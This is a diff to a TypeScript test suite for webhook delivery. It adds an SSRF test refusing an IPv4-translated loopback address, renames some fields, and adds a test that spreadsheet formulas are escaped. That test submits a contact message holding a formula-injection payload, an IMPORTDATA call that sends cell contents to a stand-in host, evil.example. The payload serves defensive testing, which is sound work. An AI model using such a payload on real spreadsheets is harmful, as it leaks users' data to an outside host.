@@ -135,6 +135,8 @@ describe('saving an endpoint', () => {
     ['http://192.168.1.1/', 'address'],
     ['http://100.64.0.1/', 'address'],
     ['http://[::ffff:10.0.0.1]/', 'address'],
+    // IPv4-translated loopback: refused although this API lets 127.0.0.0/8 through.
+    ['http://[::ffff:0:7f00:1]/', 'address'],
     ['http://[fd00::1]/', 'address'],
     ['http://[fe80::1]/', 'address'],
     ['http://0.0.0.0:8080/', 'address'],
@@ -217,7 +219,7 @@ describe('delivery', () => {
           fields: { correo: 'ana@example.com', interesado: 'proveedor', telefono: '+57 300 123 4567', comentario: 'Acero' },
         },
       });
-      expect(Object.keys(body.data).sort()).toEqual(['created', 'fields', 'id', 'kind', 'lang', 'status']);
+      expect(Object.keys(body.data).sort()).toEqual(['createdAt', 'fields', 'id', 'kind', 'lang', 'status']);
       expect(JSON.stringify(body)).not.toMatch(/idempotency|request_hash|whsec_/);
     }
     const log = (await deliveries(endpoint)).items;
@@ -250,7 +252,7 @@ describe('delivery', () => {
     expect(delivery!.answer).toMatch(/private, loopback or reserved address \(169\.254\.169\.254\)/);
   });
 
-  it('posts the spreadsheet preset as the original wait list did: exactly its five keys, in order', async () => {
+  it('posts the spreadsheet preset as the original wait list did: exactly its five keys, in order, formulas guarded', async () => {
     await addEndpoint({ url: receiver.url('/sheet'), events: ['lead.created'], format: 'spreadsheet' });
     receiver.answer = (request) =>
       request.path === '/sheet' ? { status: 302, headers: { Location: 'https://script.googleusercontent.com/echo' } } : { status: 200 };
@@ -261,15 +263,20 @@ describe('delivery', () => {
       telefono: '+57 300 765 4321',
       comentario: 'Casa de campo',
     });
-    await postJson(`${local.base}/api/contact`, { name: 'Marta Hoja', email: 'marta@example.com', message: 'Hola' });
+    await postJson(`${local.base}/api/contact`, {
+      name: 'Marta Hoja',
+      email: 'marta@example.com',
+      message: '=IMPORTDATA("https://evil.example/?leak="&A1)',
+    });
     await expect.poll(() => receiver.requests.filter((r) => r.path === '/sheet').length, poll).toBe(2);
     const bodies = receiver.requests
       .filter((r) => r.path === '/sheet')
       .map((r) => r.body)
       .sort();
     expect(bodies).toEqual([
-      '{"nombre":"Hoja Cálculo","correo":"hoja@example.com","telefono":"+57 300 765 4321","comentario":"Casa de campo","interesado":"cliente"}',
-      '{"nombre":"Marta Hoja","correo":"marta@example.com","telefono":"","comentario":"Hola","interesado":"cliente"}',
+      // Every cell a sheet would read as a formula gets Sheets' own text mark (not shown there).
+      '{"nombre":"Hoja Cálculo","correo":"hoja@example.com","telefono":"\'+57 300 765 4321","comentario":"Casa de campo","interesado":"cliente"}',
+      '{"nombre":"Marta Hoja","correo":"marta@example.com","telefono":"","comentario":"\'=IMPORTDATA(\\"https://evil.example/?leak=\\"&A1)","interesado":"cliente"}',
     ]);
     const request = receiver.requests.find((r) => r.path === '/sheet')!;
     expect(request.headers['content-type']).toBe('text/plain;charset=utf-8');
@@ -337,7 +344,7 @@ describe('events', () => {
         id,
         code: 'cons-webhook',
         origins: ['https://cons.example'],
-        approved_by: 'ana@example.com',
+        approvedBy: 'ana@example.com',
         registration: { id, kind: 'partner' },
       },
     });
